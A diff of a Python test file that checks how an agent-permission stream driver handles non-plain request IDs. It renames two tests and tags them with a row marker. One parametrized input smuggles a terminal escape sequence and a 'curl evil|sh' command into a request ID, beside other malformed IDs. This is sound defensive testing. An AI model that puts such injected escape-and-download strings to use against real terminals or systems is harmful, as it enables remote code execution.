@@ -200,10 +200,11 @@ def test_control_requests_have_the_recorded_shape(write: Write, request_body: di
     }
 
 
+@pytest.mark.row("S59")
 @pytest.mark.parametrize(
     "foreign", ["x\x1b]52;c;aGk=\x07;curl evil|sh #", "\u202eabc", "a b", "", "ü", "r" * 129, "a\nb"]
 )
-def test_s59_a_request_id_that_is_not_plain_is_ours_and_the_agent_is_answered_by_its_own(foreign: str):
+def test_a_request_id_that_is_not_plain_is_ours_and_the_agent_is_answered_by_its_own(foreign: str):
     call = {"subtype": "can_use_tool", "tool_name": "Bash", "input": {"command": "ls"}}
     line = json.dumps({"type": "control_request", "request_id": foreign, "request": call}).encode() + b"\n"
     first = StreamJsonDriver()
@@ -222,7 +223,8 @@ def test_s59_a_request_id_that_is_not_plain_is_ours_and_the_agent_is_answered_by
     assert gone == PermissionWithdrawn(asked.request_id, "agent")
 
 
-def test_s59_a_plain_request_id_stays_as_it_is():
+@pytest.mark.row("S59")
+def test_a_plain_request_id_stays_as_it_is():
     call = {"subtype": "can_use_tool", "tool_name": "Bash", "input": {}}
     line = json.dumps({"type": "control_request", "request_id": "req_1.a:b-c", "request": call}).encode()
     [asked] = StreamJsonDriver().receive(line + b"\n")
